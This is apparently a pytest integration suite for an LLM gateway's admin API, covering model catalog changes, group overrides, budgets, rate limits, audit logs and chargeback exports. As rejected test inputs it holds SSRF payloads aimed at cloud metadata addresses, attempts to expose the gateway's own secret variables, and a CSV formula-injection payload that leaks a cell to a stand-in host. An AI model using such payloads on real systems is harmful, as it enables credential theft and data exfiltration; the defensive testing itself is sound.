"""Admins govern the catalog, profiles, groups and budgets through the service's API,
and every rule holds at the running gateway (real hub, service, gateway)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import threading
import time

import pytest
from sqlalchemy import create_engine
from sqlalchemy.orm import Session

from hub_service.db import Usage, utcnow

ECHO_NEW = {
    "name": "echo-new",
    "provider_model": "openai/echo-new",
    "mode": "chat",
    "description": "Added by an admin while everything runs",
    "input_cost_per_token": 1e-06,
    "output_cost_per_token": 2e-06,
    "capabilities": ["function_calling"],
    "extra_params": {"mock_response": "first answer"},
}

ADMIN_CALLS = [
    ("GET", "admin/models", None),
    ("POST", "admin/models", ECHO_NEW),
    ("GET", "admin/models/smollm2-135m", None),
    ("PATCH", "admin/models/smollm2-135m", {"enabled": False}),
    ("DELETE", "admin/models/smollm2-135m", None),
    ("GET", "admin/profiles", None),
    ("POST", "admin/profiles", {"slug": "x", "display_name": "X"}),
    ("GET", "admin/profiles/cpu-standard", None),
    ("PATCH", "admin/profiles/cpu-standard", {"budgets": [{"window": "day", "usd": 0}]}),
    ("DELETE", "admin/profiles/cpu-standard", None),
    ("GET", "admin/overrides", None),
    ("GET", "admin/overrides/user/carol", None),
    ("PUT", "admin/overrides/user/carol", {"budgets": [{"window": "day", "usd": 1000}]}),
    ("DELETE", "admin/overrides/user/carol", None),
    ("GET", "admin/keys", None),
    ("DELETE", "admin/keys/0123456789abcdef", None),
    ("GET", "admin/policy/carol", None),
    ("GET", "admin/audit", None),
    ("GET", "admin/chargeback", None),
]


def until(check, timeout: float = 10.0, every: float = 0.25):
    """Poll ``check`` until it returns neither False nor None (a refused Response is
    falsy, so it is returned as is); return it and the seconds taken."""
    start = time.monotonic()
    while True:
        value = check()
        if value is not None and value is not False:
            return value, time.monotonic() - start
        if time.monotonic() - start > timeout:
            raise AssertionError(f"not true after {timeout} s")
        time.sleep(every)


@pytest.fixture(scope="module")
def admin(stack):
    return stack.admin


def personal_key(stack, name: str) -> str:
    user = stack.user(name)
    token = user.create_token()
    r = stack.api("POST", f"users/{name}/keys", token, json={"name": "tests"})
    assert r.status_code == 201, r.text
    stack.issued_keys.append(r.json()["key"])
    return r.json()["key"]


def test_every_admin_endpoint_refuses_everyone_else(stack):
    outsider = stack.user("olga")
    token = outsider.create_token()
    for method, path, body in ADMIN_CALLS:
        r = stack.api(method, path, token, json=body)
        assert r.status_code == 403, (method, path, r.status_code)
        assert "MaaS admins" in r.json()["message"]
    # nothing was changed by those attempts
    models = stack.api("GET", "models", token).json()["models"]
    assert "smollm2-135m" in [m["name"] for m in models]


def test_bad_admin_input_gets_a_clear_400(stack, admin):
    cases = [
        ({"name": "x"}, "Missing required fields: provider_model"),
        ({**ECHO_NEW, "name": "bad name!"}, "name 'bad name!' is not valid"),
        ({**ECHO_NEW, "input_cost_per_token": -1}, "at least 0"),
        ({**ECHO_NEW, "api_key": "sk-secret"}, "api_key is not accepted"),
        ({**ECHO_NEW, "extra_params": {"api_key": "sk-secret"}}, "may not hold secrets"),
        ({**ECHO_NEW, "colour": "red"}, "Unknown fields ['colour']"),
    ]
    for body, message in cases:
        r = stack.api("POST", "admin/models", admin.token, json=body)
        assert r.status_code == 400, body
        assert message in r.json()["message"]
        assert "sk-secret" not in r.text
    r = stack.api(
        "PATCH", "admin/profiles/cpu-standard", admin.token, json={"models": ["no-such-model"]}
    )
    assert r.status_code == 400 and "Unknown models" in r.json()["message"]
    # found by fuzzing: renaming a profile onto another's slug was a 500
    r = stack.api("PATCH", "admin/profiles/cpu-standard", admin.token, json={"slug": "gpu-ml-ai"})
    assert r.status_code == 400 and "slug cannot change" in r.json()["message"]


def test_admins_cannot_aim_the_gateway_at_its_own_secrets(stack, admin):
    own_secret = "must be the name of an environment variable of the gateway that begins with "
    metadata = "may not point at a link-local or cloud metadata address"
    cases = [
        ({"api_key_env": "MAAS_DB_URL"}, own_secret + "MAAS_BACKEND_"),
        ({"api_key_env": "LITELLM_MASTER_KEY"}, own_secret + "MAAS_BACKEND_"),
        ({"api_key_env": "JUPYTERHUB_API_TOKEN"}, own_secret + "MAAS_BACKEND_"),
        ({"api_base": "http://169.254.169.254/latest/meta-data/"}, metadata),
        ({"api_base": "http://metadata.google.internal/computeMetadata/v1/"}, metadata),
        ({"api_base": "http://[fe80::1]:8000/v1"}, metadata),
        ({"api_base": "http://2852039166/"}, metadata),  # 169.254.169.254 in disguise
        ({"api_base": "http://admin:sk-secret@vllm:8000/v1"}, "may not hold a user or password"),
        ({"extra_params": {"api_base": "http://169.254.169.254/"}}, "may not set api_base"),
        ({"extra_params": {"mock_response": "os.environ/MAAS_DB_URL"}}, "os.environ/"),
    ]
    for fields, message in cases:
        for method, path, body in (
            ("POST", "admin/models", {**ECHO_NEW, "name": "leaky", **fields}),
            ("PATCH", "admin/models/echo-large", fields),
        ):
            r = stack.api(method, path, admin.token, json=body)
            assert r.status_code == 400, (method, fields, r.text)
            assert message in r.json()["message"], (method, fields)
            assert "sk-secret" not in r.text
    models = stack.api("GET", "admin/models", admin.token).json()["models"]
    assert "leaky" not in [m["name"] for m in models]
    [echo] = [m for m in models if m["name"] == "echo-large"]
    assert (echo["api_base"], echo["api_key_env"]) == (None, None)
    assert echo["extra_params"] == {"mock_response": "echo"}


def test_a_catalog_change_reaches_the_running_gateway_within_10s(stack, admin):
    key = personal_key(stack, "erin")
    assert stack.chat(key, model="echo-new").status_code == 404

    r = stack.api("POST", "admin/models", admin.token, json=ECHO_NEW)
    assert r.status_code == 201, r.text
    assert r.json()["capabilities"] == ["function_calling"]
    r = stack.api(
        "PUT", "admin/overrides/user/erin", admin.token, json={"extra_models": ["echo-new"]}
    )
    assert r.status_code == 201, r.text

    answer, took = until(lambda: (r := stack.chat(key, model="echo-new")).ok and r.json())
    assert answer["choices"][0]["message"]["content"] == "first answer"
    print(f"new model served after {took:.1f} s")

    # requests keep flowing while the router takes the change: none is dropped
    codes: list[int] = []

    def traffic():
        for _ in range(30):
            codes.append(stack.chat(key, model="echo-new").status_code)

    worker = threading.Thread(target=traffic)
    worker.start()
    r = stack.api(
        "PATCH",
        "admin/models/echo-new",
        admin.token,
        json={"extra_params": {"mock_response": "second answer"}},
    )
    assert r.status_code == 200
    until(
        lambda: (
            stack.chat(key, model="echo-new").json()["choices"][0]["message"]["content"]
            == "second answer"
        )
    )
    worker.join()
    assert codes == [200] * 30


def test_a_disabled_model_is_refused_saying_so_and_can_come_back(stack, admin):
    key = personal_key(stack, "erin")
    assert (
        stack.api(
            "PATCH", "admin/models/echo-new", admin.token, json={"enabled": False}
        ).status_code
        == 200
    )
    r, _ = until(lambda: (r := stack.chat(key, model="echo-new")).status_code == 403 and r)
    assert "'echo-new' is disabled" in r.json()["error"]["message"]
    # the public catalog no longer lists it
    assert "echo-new" not in [
        m["name"] for m in stack.api("GET", "models", admin.token).json()["models"]
    ]
    assert (
        stack.api("PATCH", "admin/models/echo-new", admin.token, json={"enabled": True}).status_code
        == 200
    )
    until(lambda: stack.chat(key, model="echo-new").ok)


def test_a_group_override_changes_the_effective_policy(stack, admin):
    key = personal_key(stack, "frank")
    before = stack.api("GET", "admin/policy/frank", admin.token).json()
    assert before["allowed_models"] == ["smollm2-135m"] and before["budget_usd"] is None

    r = admin.hub_api("POST", "groups/research", json={"users": ["frank"]})
    assert r.status_code == 201, r.text
    r = stack.api(
        "PUT",
        "admin/overrides/group/research",
        admin.token,
        json={
            "extra_models": ["echo-large"],
            "budgets": [{"window": "week", "usd": 50}],
            "rpm_limit": 100,
        },
    )
    assert r.status_code == 201

    policy, _ = until(
        lambda: (
            (p := stack.api("GET", "admin/policy/frank", admin.token).json())["groups"]
            == ["research"]
            and p
        )
    )
    assert policy["allowed_models"] == ["echo-large", "smollm2-135m"]
    assert (policy["budget_usd"], policy["budget_period"], policy["rpm_limit"]) == (50, "week", 100)
    assert policy["binding"]["source"] == "group:research"
    assert policy["spend_usd"] == 0 and policy["resets_at"]
    # frank sees the same through his own endpoint
    token = stack.user("frank").create_token()
    assert stack.api("GET", "users/frank/policy", token).json()["allowed_models"] == [
        "echo-large",
        "smollm2-135m",
    ]
    until(lambda: stack.chat(key, model="echo-large").ok)

    # the user's own budget for a window wins over the group's for that window
    week = {"budgets": [{"window": "week", "usd": 5}]}
    stack.api("PUT", "admin/overrides/user/frank", admin.token, json=week)
    policy = stack.api("GET", "admin/policy/frank", admin.token).json()
    assert (policy["budget_usd"], policy["budget_period"]) == (5, "week")
    assert [(b["window"], b["source"]) for b in policy["budgets"]] == [("week", "user")]


def test_rpm_limits_answer_429_with_a_clear_message(stack, admin):
    key = personal_key(stack, "ivan")
    stack.api(
        "PUT",
        "admin/overrides/user/ivan",
        admin.token,
        json={"extra_models": ["echo-large"], "rpm_limit": 3},
    )
    until(lambda: stack.chat(key, model="echo-large").ok)  # the override is in force
    codes = [stack.chat(key, model="echo-large").status_code for _ in range(3)]
    # the window slides over two one-minute buckets: across a minute boundary one
    # more request may pass, never fewer
    assert codes[:2] == [200, 200] and codes[2] in (200, 429)
    r = stack.chat(key, model="echo-large")
    assert r.status_code == 429
    assert "at most 3 requests per minute" in r.json()["error"]["message"]


def test_tpm_limits_answer_429_once_the_minutes_tokens_are_used(stack, admin):
    key = personal_key(stack, "kurt")
    stack.api(
        "PUT",
        "admin/overrides/user/kurt",
        admin.token,
        json={"extra_models": ["echo-large"], "tpm_limit": 20},
    )
    until(lambda: stack.chat(key, model="echo-large").ok)  # ~30 tokens: over the limit
    r, _ = until(lambda: (r := stack.chat(key, model="echo-large")).status_code == 429 and r)
    assert "Token rate limit reached" in r.json()["error"]["message"]
    assert "of 20 tokens per minute" in r.json()["error"]["message"]


def test_budget_exhaustion_gives_429_until_the_period_rolls_over(stack, admin):
    key = personal_key(stack, "gina")
    stack.api(
        "PUT",
        "admin/overrides/user/gina",
        admin.token,
        json={"extra_models": ["echo-large"], "budgets": [{"window": "day", "usd": 0.0001}]},
    )
    r, _ = until(lambda: (r := stack.chat(key, model="echo-large")).ok and r)  # spends ~$0.0002

    r, _ = until(lambda: (r := stack.chat(key, model="echo-large")).status_code == 429 and r)
    message = r.json()["error"]["message"]
    assert "Budget exhausted" in message and "of your $0.0001 daily budget" in message
    tomorrow = (dt.datetime.now(dt.timezone.utc) + dt.timedelta(days=1)).date()
    assert f"resets at {tomorrow.isoformat()}T00:00:00Z" in message

    now = dt.datetime.now(dt.timezone.utc)
    next_day = dt.datetime.combine(tomorrow, dt.time(), tzinfo=dt.timezone.utc)
    token = stack.user("gina").create_token()
    try:
        stack.move_clock((next_day - now).total_seconds() + 60)
        until(lambda: stack.chat(key, model="echo-large").ok)

        # her usage view of this period counts the new day's request alone
        def usage(query):
            return stack.api("GET", f"users/gina/usage?{query}", token).json()

        today, _ = until(lambda: (u := usage("period=day"))["total_requests"] >= 1 and u)
        assert today["since"] == f"{tomorrow.isoformat()}T00:00:00+00:00"
        assert today["total_requests"] < usage("days=2")["total_requests"]
    finally:
        stack.move_clock(0)


def test_the_soft_threshold_alert_arrives_once(stack, admin, webhook):
    key = personal_key(stack, "hana")
    stack.api(
        "PUT",
        "admin/overrides/user/hana",
        admin.token,
        json={"extra_models": ["echo-large"], "budgets": [{"window": "month", "usd": 0.001}]},
    )
    until(lambda: stack.chat(key, model="echo-large").ok)

    def hana():
        return [a for a in webhook.received if a["user"] == "hana"] or None

    for _ in range(4):  # ~$0.0002 each: past 80 % of the budget
        assert stack.chat(key, model="echo-large").status_code == 200
    until(hana)
    until(lambda: stack.chat(key, model="echo-large").status_code == 429, timeout=15)
    stack.gateway_refreshed()  # its next refreshes see the same spend: no second alert
    stack.gateway_refreshed()
    [alert] = hana()
    assert alert["event"] == "budget.threshold" and alert["budget_usd"] == 0.001
    assert alert["spend_usd"] >= 0.8 * 0.001 and alert["threshold"] == 0.8
    assert alert["period"] == "month" and alert["resets_at"]


def test_the_audit_log_records_who_changed_what(stack, admin):
    entries = stack.api("GET", "admin/audit?target_type=model", admin.token).json()["entries"]
    disable = next(e for e in entries if e["after"] and e["after"]["enabled"] is False)
    assert disable["actor"] == "admin" and disable["action"] == "update"
    assert disable["target"] == "echo-new" and disable["before"]["enabled"] is True
    created = next(e for e in entries if e["action"] == "create")
    assert created["before"] is None and created["after"]["name"] == "echo-new"
    groups = stack.api("GET", "admin/audit?target_type=group", admin.token).json()["entries"]
    assert groups[0]["target"] == "research"
    assert groups[0]["after"]["budgets"] == [{"window": "week", "usd": 50}]


def test_chargeback_by_user_group_profile_and_model(stack, admin):
    by_user = stack.api("GET", "admin/chargeback?by=user", admin.token).json()
    spend = {r["user"]: r for r in by_user["rows"]}
    assert spend["hana"]["cost_usd"] > 0 and spend["hana"]["requests"] >= 4
    by_group = stack.api("GET", "admin/chargeback?by=group", admin.token).json()["rows"]
    assert "research" in {r["group"] for r in by_group}
    by_profile = stack.api("GET", "admin/chargeback?by=profile", admin.token).json()["rows"]
    assert "cpu-standard" in {r["profile"] for r in by_profile}
    r = stack.api("GET", "admin/chargeback?by=model&format=csv", admin.token)
    assert r.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    models = {row["model"]: float(row["cost_usd"]) for row in rows}
    assert models["echo-large"] > 0 and models["smollm2-135m"] > 0
    total = sum(models.values())
    assert total == pytest.approx(sum(r["cost_usd"] for r in by_user["rows"]), rel=1e-6)
    r = stack.api("GET", "admin/chargeback?by=planet", admin.token)
    assert r.status_code == 400 and "by must be one of" in r.json()["message"]


def test_chargeback_csv_cells_cannot_run_as_formulas(stack, admin):
    evil = '=HYPERLINK("https://evil/?"&A2,"x")'
    with Session(create_engine(stack.db_url)) as session, session.begin():
        session.add(Usage(ts=utcnow(), user=evil, model="smollm2-135m", status_code=200))
    r = stack.api("GET", "admin/chargeback?by=user&format=csv", admin.token)
    assert r.status_code == 200
    users = [row["user"] for row in csv.DictReader(io.StringIO(r.text))]
    assert "'" + evil in users
    assert not [u for u in users if u.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # the JSON answer keeps the value as it is
    rows = stack.api("GET", "admin/chargeback?by=user", admin.token).json()["rows"]
    assert evil in [row["user"] for row in rows]


def test_the_spawn_form_offers_the_profiles_and_the_key_carries_the_choice(stack):
    judy = stack.user("judy")
    form = judy.session.get(f"{stack.hub_url}/hub/spawn").text
    assert "CPU - Standard" in form and "GPU - ML/AI" in form
    r = judy.session.post(
        f"{stack.hub_url}/hub/spawn",
        data={"profile": "gpu-ml-ai", "_xsrf": judy._xsrf()},
    )
    assert r.status_code < 400, r.status_code
    judy.wait_server(ready=True, timeout=180)
    judy.session.get(f"{stack.hub_url}/user/judy/lab")
    kernel = judy.start_kernel()
    out = judy.execute(
        kernel,
        "import os\nfrom openai import OpenAI\n"
        "print(sorted(m.id for m in OpenAI().models.list()))\n"
        "print(os.environ['OPENAI_API_KEY'])",
    ).split("\n")
    stack.issued_keys.append(out[1])
    assert "echo-large" in out[0] and "smollm2-135m" in out[0]
    token = judy.create_token()
    [key] = [
        k
        for k in stack.api("GET", "users/judy/keys", token).json()["keys"]
        if k["state"] == "active"
    ]
    assert key["profile"] == "gpu-ml-ai"

    # A notebook's kernel, restarted after the user picks another default, gets the
    # new value (and keeps its own key); JupyterLab restarts kernels of open notebooks.
    notebook_kernel = judy.open_notebook("restart.ipynb")
    show = "import os; print(os.environ['MAAS_DEFAULT_MODEL'], os.environ['OPENAI_API_KEY'])"
    first, key_in_kernel = judy.execute(notebook_kernel, show).split()
    stack.issued_keys.append(key_in_kernel)
    shared = key_in_kernel == out[1]
    assert not shared, "two kernels share a key"  # (a boolean: no key in the message)
    [other] = {"smollm2-135m", "echo-large"} - {first}
    r = judy.server_api("PUT", "jupyterlab-maas/default-model", json={"model": other})
    assert r.status_code == 200, r.text
    assert judy.execute(notebook_kernel, show).split()[0] == first  # until it restarts
    judy.restart_kernel(notebook_kernel)
    assert judy.execute(notebook_kernel, show).split() == [other, key_in_kernel]
    judy.stop_server()
